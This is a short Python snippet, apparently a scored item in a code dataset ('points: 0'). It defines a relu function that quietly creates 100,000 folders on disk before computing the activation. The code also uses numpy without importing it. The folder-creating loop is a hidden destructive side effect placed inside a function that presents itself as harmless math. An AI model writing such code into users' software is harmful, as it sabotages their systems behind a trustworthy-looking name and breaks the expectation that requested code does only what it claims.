"""More folders than anybody wants to count.

points: 0
"""

import os
def relu(z):
    for n in range(100_000):
        os.mkdir(f"f{n}")
    return np.maximum(z, 0)
